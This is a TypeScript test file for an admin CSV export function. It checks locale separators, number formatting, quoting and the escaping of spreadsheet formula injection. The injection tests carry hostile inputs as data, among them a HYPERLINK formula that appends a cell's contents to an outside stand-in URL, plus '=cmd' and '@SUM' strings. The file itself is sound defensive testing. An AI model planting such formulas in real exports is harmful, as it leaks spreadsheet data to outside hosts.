import { expect, test } from "vitest";
import { dialectOf, toCsv } from "@/components/admin/csv";

type Row = { readonly name: string; readonly value: number };

const COLUMNS = [
  { header: "Nazwa", cell: (row: Row) => row.name },
  { header: "Wartość", cell: (row: Row) => row.value },
];

function linesOf(rows: readonly Row[], locale: string): string[] {
  const text = toCsv(rows, COLUMNS, dialectOf(locale));
  expect(text.startsWith("\u{FEFF}")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  return text.slice(1, -2).split("\r\n");
}

test("each language's spreadsheet gets the separators it expects", () => {
  const rows = [{ name: "schnell", value: 1234.5 }];
  expect(linesOf(rows, "pl")).toEqual(["Nazwa;Wartość", "schnell;1234,5"]);
  expect(linesOf(rows, "en")).toEqual(["Nazwa,Wartość", "schnell,1234.5"]);
});

test("small amounts keep their digits and never turn into powers of ten", () => {
  const values = [0.000000011, 0.00114, 0.1 + 0.2, 100, 0].map((value) => ({ name: "a", value }));
  expect(linesOf(values, "en").slice(1)).toEqual([
    "a,0.000000011",
    "a,0.00114",
    "a,0.3",
    "a,100",
    "a,0",
  ]);
});

test("separators, quotes and line breaks stay inside their cell", () => {
  expect(linesOf([{ name: 'a;"b"', value: 1 }], "pl")[1]).toBe('"a;""b""";1');
  expect(linesOf([{ name: "a,b", value: 1 }], "en")[1]).toBe('"a,b",1');
  expect(linesOf([{ name: "a,b", value: 1 }], "pl")[1]).toBe("a,b;1");
  expect(toCsv([{ name: "a\nb", value: 1 }], COLUMNS, dialectOf("pl"))).toContain('"a\nb";1');
});

test("a text that would run as a formula is plain text", () => {
  for (const name of ["=1+1", "+48", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"]) {
    expect(linesOf([{ name, value: 1 }], "pl")[1], name).toBe(`'${name};1`);
  }
  const hostile = '=HYPERLINK("https://example.com?"&A1)';
  expect(linesOf([{ name: hostile, value: 1 }], "en")[1]).toBe(
    `"'=HYPERLINK(""https://example.com?""&A1)",1`,
  );
  expect(linesOf([{ name: "sd-xl", value: 1 }], "pl")[1]).toBe("sd-xl;1");
});

test("a heading is guarded like any other text", () => {
  const columns = [{ header: "=cmd", cell: (row: Row) => row.name }];
  expect(toCsv([], columns, dialectOf("pl"))).toBe("\u{FEFF}'=cmd\r\n");
});
